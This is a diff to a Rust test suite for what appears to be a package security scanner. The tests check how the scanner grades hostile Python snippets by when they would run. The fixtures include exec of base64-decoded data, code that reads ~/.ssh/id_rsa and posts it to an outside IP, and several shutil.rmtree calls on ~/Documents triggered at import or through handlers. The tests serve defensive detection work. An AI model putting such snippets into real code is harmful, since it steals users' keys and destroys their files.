@@ -311,7 +311,12 @@ fn verdicts_at_high_and_above_explain_themselves() {
     let hidden = "import base64\ndef go():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n";
     let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: hidden.as_bytes() }]);
     let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("exec-decoded");
-    assert_eq!(f.because[0], "when: only when `go` (line 2) is called", "{:#?}", f.because);
+    assert!(f.because[0].starts_with("when: only when `go` (line 2) is called;"), "{:#?}", f.because);
+    // Called while the module loads: import time, through the function.
+    let called = format!("{hidden}go()\n");
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: called.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("exec-decoded");
+    assert!(f.because[0].contains("imported or the script is run: `go` (line 2)"), "{:#?}", f.because);
     assert!(f.because.iter().any(|b| b.starts_with("what: `exec` receives data decoded")), "{:#?}", f.because);
 
     // At module level: import time.
@@ -423,4 +428,26 @@ fn credential_stores_are_judged_by_what_the_file_does_with_them() {
     let sent = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                 requests.post('https://203.0.113.4/k', data=key)\n";
     assert_eq!(worst(sent), Some(Severity::Critical));
+}
+
+/// When it runs sets the level of a deletion in the user's folders: asked
+/// for through a function nothing calls while loading (a library's `rm`),
+/// medium; run while the module loads, directly, through a function it
+/// calls or through a handler it hooks, high. Written for the test.
+#[test]
+fn deleting_user_folders_is_judged_by_when_it_runs() {
+    let level = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/mod.py", bytes: src.as_bytes() }]);
+        let f = report.findings.iter().find(|f| f.rule == "destroy-user-data").unwrap_or_else(|| panic!("{src}"));
+        f.severity
+    };
+    let def = "import os, shutil\ndef wipe():\n    shutil.rmtree(os.path.expanduser('~/Documents'))\n";
+    assert_eq!(level(def), Severity::Medium);
+    assert_eq!(level(&format!("{def}wipe()\n")), Severity::High);
+    assert_eq!(level(&format!("{def}def main():\n    wipe()\nmain()\n")), Severity::High);
+    assert_eq!(level(&format!("{def}import threading\nthreading.Thread(target=wipe).start()\n")), Severity::High);
+    assert_eq!(level(&format!("{def}doc.DocumentOpened += wipe\n")), Severity::High);
+    assert_eq!(level("import os, shutil\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"), Severity::High);
+    // Only a definition of another function calls it: still only when asked.
+    assert_eq!(level(&format!("{def}def clean():\n    wipe()\n")), Severity::Medium);
 }
